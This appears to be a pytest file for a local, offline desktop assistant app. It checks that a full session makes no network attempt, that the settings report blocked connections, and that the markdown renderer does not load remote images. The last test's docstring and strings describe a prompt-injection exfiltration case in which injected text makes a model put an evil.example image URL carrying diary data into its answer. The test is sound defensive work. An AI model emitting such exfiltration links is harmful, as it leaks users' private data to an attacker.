"""The window, offline: a whole session (index with the app's own memory engine, the real
Gemma 3 270M, an answer streamed into the window, the settings opened) makes no network
attempt, and the settings say so in plain words. In this process both layers watch (twin's
audit-hook guard and a socket trap: tests/fixtures/net_guard.py); the memory engine's child
process has twin's guard, which reports to a ``TWIN_NET_AUDIT`` file."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt

from twin.settings import Settings

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures"))
from net_guard import NoNetwork, no_network  # noqa: F401, F811 - no_network is a fixture

pytestmark = pytest.mark.slow

OFFLINE = "offline: no connection has been made"


def test_a_window_session_makes_no_attempt_and_says_so(no_network: NoNetwork, qapp: Any, qloop: Any, qtbot: Any,
                                                       run_until: Any, paths: Any, ui_settings: Settings,
                                                       gemma_path: Path, thread_guard: None,
                                                       monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from twin.ui.app_shell import TwinApp

    # the app's memory engine runs in a child process, which installs its own guard: it
    # writes any attempt it sees to this file (twin.offline.AUDIT_ENV)
    child_audit = tmp_path / "memory-child-net-audit.jsonl"
    monkeypatch.setenv("TWIN_NET_AUDIT", str(child_audit))

    s = ui_settings
    s.llm.model_path = str(gemma_path)
    s.llm.n_ctx, s.llm.n_threads, s.llm.cpu_repack = 2048, 1, False
    s.chat.max_answer_tokens, s.chat.temperature = 16, 0.0
    # the app's own memory engine (no memory_factory): the embedding model loads under a guard
    app = TwinApp(qapp, paths, s, hotkey=False, first_run=False)
    app.window.documents.show_messages = False
    app.start()
    try:
        run_until(lambda: app.controller.model.is_ready, 120, "the model to load")
        run_until(lambda: app.controller.memory.is_ready and not app.controller.memory.busy, 120, "the index")
        edit = app.window.pane.composer.edit
        edit.setPlainText("What did we have for dinner at the pier?")
        qtbot.keyClick(edit, Qt.Key.Key_Return)
        turn = app.window.pane.turn
        run_until(lambda: turn.is_finished, 120, "the answer")
        assert turn.result is not None and not turn.error and turn.result.answer.strip()
        dialog = app.open_settings()
        assert dialog.network.text() == OFFLINE
        dialog.reject()
    finally:
        qloop.run_until_complete(app.aclose())
    assert no_network.attempts() == []
    assert not child_audit.exists() or child_audit.read_text() == ""


def test_the_settings_name_a_blocked_attempt_and_a_download(no_network: NoNetwork, qapp: Any, paths: Any) -> None:
    import socket

    from twin.offline import NetworkBlockedError, record_download_process
    from twin.ui.settings_dialog import SettingsDialog
    from twin.ui.ui_state import UiState

    sock = socket.socket()
    with pytest.raises(NetworkBlockedError):  # what the audit hook gets for sock.connect(...)
        no_network.guard.hook("socket.connect", (sock, ("93.184.216.34", 443)))
    sock.close()
    record_download_process("huggingface.co")
    dialog = SettingsDialog(Settings(), paths, UiState(paths.config_dir))
    text = dialog.network.text()
    assert "the model download you started at" in text and "connects to huggingface.co" in text
    assert "1 blocked attempt: 93.184.216.34:443 at" in text
    assert OFFLINE not in text
    dialog.deleteLater()
    assert len(no_network.take()) == 1  # on purpose: the fixture would fail the test for it


def test_answers_never_load_a_remote_image() -> None:
    """A note (or a model told by one) may put ``![x](http://evil.example/p.png?diary=…)`` in an
    answer: the window shows a link, it never fetches the image."""
    from twin.ui.markdown_render import MarkdownRenderer

    html = MarkdownRenderer().render("Here ![pixel](http://evil.example/p.png?diary=secret) and "
                                     '<img src="http://evil.example/x.gif">')
    assert "<img" not in html
    assert '<a href="http://evil.example/p.png?diary=secret">[image: pixel]</a>' in html
